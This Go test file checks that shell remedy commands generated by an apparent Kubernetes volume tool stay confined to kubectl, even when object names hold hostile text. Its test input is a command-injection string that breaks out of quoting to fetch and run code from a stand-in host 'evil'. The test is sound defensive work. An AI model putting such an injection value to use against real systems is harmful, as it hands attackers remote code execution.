package volumes

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/sliceshift/sliceshift/internal/shell"
)

// TestK7Remedies: whatever the names of objects in an API server, a remedy that is pasted into a shell runs
// only kubectl.
func TestK7Remedies(t *testing.T) {
	const name = "x';curl evil|sh;#"
	h := Holding{
		Ref: Ref{Namespace: name, Name: name}, Kubectl: shell.Kubectl{Cluster: name},
		Claim:  Claim{UID: name, Volume: name},
		Volume: Volume{Found: true, Terminating: true, Name: name, Handle: "h", Policy: corev1.PersistentVolumeReclaimDelete},
	}
	claim := &corev1.PersistentVolumeClaim{ObjectMeta: metav1.ObjectMeta{Namespace: name, Name: name}}
	commands := []string{
		h.Describe(), h.Delete(), h.DescribeVolume(), h.deleteVolume(name), h.listKept(), Unpark(h),
		Departing(h).Remedy, foreignClaim(h).Remedy, notEmpty(h).Remedy, inTheWay(h).Remedy, parkedHere(h).Remedy, TwinOf(name, name, h).Remedy, strayed(h).Remedy, unprepared(Pair{Taker: h}).Remedy,
		Shareable(claim, nil, h.Kubectl).Remedy,
	}
	for _, remedy := range commands {
		if begin := strings.Index(remedy, "kubectl"); begin < 0 || strings.Contains(bare(remedy[begin:]), "curl") {
			t.Errorf("a shell runs more than kubectl: %s", remedy)
		}
	}
}

// bare returns the parts of a command that a shell reads outside single quotes.
func bare(command string) string {
	var out strings.Builder
	quoted := false
	for i := 0; i < len(command); i++ {
		switch c := command[i]; {
		case c == '\'':
			quoted = !quoted
		case c == '\\' && !quoted:
			i++
		case !quoted:
			out.WriteByte(c)
		}
	}
	return out.String()
}
